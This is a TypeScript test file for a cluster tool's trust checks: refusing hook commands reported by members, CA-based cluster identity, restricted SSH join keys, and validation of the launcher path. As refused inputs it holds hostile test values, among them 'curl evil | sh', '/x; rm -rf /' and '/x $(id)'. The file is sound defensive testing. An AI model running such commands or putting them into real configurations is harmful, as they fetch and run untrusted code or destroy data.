import { strict as assert } from "node:assert";
import { describe, it } from "node:test";
import { isCodeKey, learnFromMember } from "../../src/config/trust.ts";
import { clusterIdOf, otherClusterProblem } from "../../src/consensus/cluster-id.ts";
import { withoutCa } from "../../src/consensus/pki.ts";
import { KEYS } from "../../src/consensus/settings.ts";
import { grantLine } from "../../src/ops/join.ts";
import { remoteCommand } from "../../src/remote/settings.ts";
import { mergeLearned } from "../../src/ops/learn.ts";
import { refuseNewConfigProblems } from "../../src/ops/config-checks.ts";

const HOOK = "raptiformica/platform/default/hooks/after_assimilate/evil/command";

describe("trust: what an operator learns from a member", () => {
  it("classifies code keys: server, compute, platform, remote", () => {
    for (const k of [
      "raptiformica/server/headless/p/bootstrap",
      "raptiformica/server/headless/p/source",
      "raptiformica/compute/docker/headless/start_instance",
      "raptiformica/compute/docker/headless/available",
      HOOK,
      "raptiformica/remote/command",
    ]) {
      assert.ok(isCodeKey(k), k);
    }
    for (const k of ["raptiformica/meshnet/neighbours/abc/host", "raptiformica/meshnet/etcd/ca_key", "raptiformica/app/x", "raptiformica/serverx/y"]) {
      assert.ok(!isCodeKey(k), k);
    }
  });

  it("takes the member's data and keeps this machine's code", () => {
    const own = {
      "raptiformica/platform/default/hooks/after_slave/noti/command": "true",
      "raptiformica/compute/netns/headless/start_instance": "sh start.sh",
      "raptiformica/meshnet/etcd/max_voters": "5",
      "raptiformica/app/old": "1",
    };
    const reported = {
      "raptiformica/platform/default/hooks/after_slave/noti/command": "curl evil | sh",
      [HOOK]: "touch /tmp/pwned",
      "raptiformica/remote/command": "/tmp/evil",
      "raptiformica/meshnet/etcd/max_voters": "3",
      "raptiformica/meshnet/neighbours/k/host": "10.0.0.1",
      "raptiformica/app/new": "2",
    };
    const { mapping, refused } = learnFromMember(own, reported);
    assert.deepEqual(mapping, {
      "raptiformica/platform/default/hooks/after_slave/noti/command": "true",
      "raptiformica/compute/netns/headless/start_instance": "sh start.sh",
      "raptiformica/meshnet/etcd/max_voters": "3",
      "raptiformica/meshnet/neighbours/k/host": "10.0.0.1",
      "raptiformica/app/new": "2",
    });
    assert.deepEqual(refused, [
      "raptiformica/compute/netns/headless/start_instance",
      HOOK,
      "raptiformica/platform/default/hooks/after_slave/noti/command",
      "raptiformica/remote/command",
    ]);
  });

  it("refuses nothing when the member's code is the same", () => {
    const m = { [HOOK]: "true", "raptiformica/app/x": "1" };
    assert.deepEqual(learnFromMember(m, { ...m }).refused, []);
  });
});

describe("trust: cluster identity", () => {
  const pem = (b64: string) => `-----BEGIN CERTIFICATE-----\n${b64}\n-----END CERTIFICATE-----\n`;
  it("is the fingerprint of the CA certificate; none without one", () => {
    const a = clusterIdOf({ [KEYS.caCert]: pem("AAEC") });
    const a2 = clusterIdOf({ [KEYS.caCert]: pem("AA\nEC") });
    const b = clusterIdOf({ [KEYS.caCert]: pem("AAED") });
    assert.match(a ?? "", /^[0-9a-f]{64}$/);
    assert.equal(a, a2, "line breaks in the PEM do not change it");
    assert.notEqual(a, b);
    assert.equal(clusterIdOf({}), undefined);
  });

  it("refuses a machine of another cluster, naming both; allows the same or none", () => {
    const ours = { [KEYS.caCert]: pem("AAEC") };
    const theirs = { [KEYS.caCert]: pem("AAED") };
    const problem = otherClusterProblem(ours, theirs, "root@10.0.0.9");
    assert.ok(problem);
    assert.match(problem, /root@10\.0\.0\.9 is a member of cluster [0-9a-f]{16}, but this machine manages cluster [0-9a-f]{16}/);
    assert.match(problem, /raptiformica clean/);
    assert.equal(otherClusterProblem(ours, { ...ours }, "x"), undefined);
    assert.equal(otherClusterProblem({}, theirs, "x"), undefined);
    assert.equal(otherClusterProblem(ours, {}, "x"), undefined);
  });

  it("a machine that is not becoming a member gets no CA", () => {
    const m = { [KEYS.caCert]: "c", [KEYS.caKey]: "k", "raptiformica/app/x": "1" };
    assert.deepEqual(withoutCa(m), { "raptiformica/app/x": "1" });
  });
});

describe("trust: join's key on the joining machine", () => {
  it("is restricted to the tunnel, expires, and carries its tag", () => {
    const line = grantLine("ssh-ed25519 AAAAC3Nza member-comment\n", "raptiformica-join-1-2", new Date(2026, 10, 30, 23, 50));
    assert.equal(line, 'restrict,from="127.0.0.1,::1",expiry-time="202612010025" ssh-ed25519 AAAAC3Nza raptiformica-join-1-2');
  });
});

describe("trust: the remote launcher", () => {
  it("must be a plain absolute path", () => {
    assert.equal(remoteCommand({}), "/usr/etc/raptiformica/bin/raptiformica");
    assert.equal(remoteCommand({ "raptiformica/remote/command": "/opt/rf/bin/raptiformica" }), "/opt/rf/bin/raptiformica");
    for (const bad of ["raptiformica", "/x/../etc/y", "/x; rm -rf /", "/x $(id)", "/a b"]) {
      assert.throws(() => remoteCommand({ "raptiformica/remote/command": bad }), /raptiformica\/remote\/command is/, bad);
    }
  });
});

describe("trust: the operator's hold on its cluster", () => {
  const pem = (b64: string) => `-----BEGIN CERTIFICATE-----\n${b64}\n-----END CERTIFICATE-----\n`;
  const ours = { [KEYS.caCert]: pem("AAEC"), [KEYS.caKey]: "k", "raptiformica/app/x": "1" };

  it("keeps its CA when a member reports a config without one", () => {
    const r = mergeLearned(ours, { "raptiformica/app/x": "2" }, "m");
    assert.equal(r.keptCa, true);
    assert.equal(r.mapping[KEYS.caCert], ours[KEYS.caCert]);
    assert.equal(r.mapping[KEYS.caKey], "k");
    assert.equal(r.mapping["raptiformica/app/x"], "2", "the data is still learnt");
  });

  it("refuses a member of another cluster, learns from its own", () => {
    assert.throws(() => mergeLearned(ours, { [KEYS.caCert]: pem("AAED"), [KEYS.caKey]: "j" }, "root@m"), /root@m is a member of cluster/);
    assert.equal(mergeLearned(ours, { ...ours, "raptiformica/app/y": "3" }, "m").keptCa, false);
  });

  it("config set, delete and install cannot replace or remove the cluster CA", () => {
    assert.throws(() => refuseNewConfigProblems(ours, { ...ours, [KEYS.caCert]: "garbage" }, "Setting it"), /Setting it was refused.*ca_cert is the cluster CA/);
    const { [KEYS.caKey]: _k, ...withoutKey } = ours;
    assert.throws(() => refuseNewConfigProblems(ours, withoutKey, "Deleting it"), /ca_key is the cluster CA/);
    assert.doesNotThrow(() => refuseNewConfigProblems({}, ours, "A first CA"));
    assert.doesNotThrow(() => refuseNewConfigProblems(ours, { ...ours, "raptiformica/app/x": "2" }, "Another key"));
  });
});
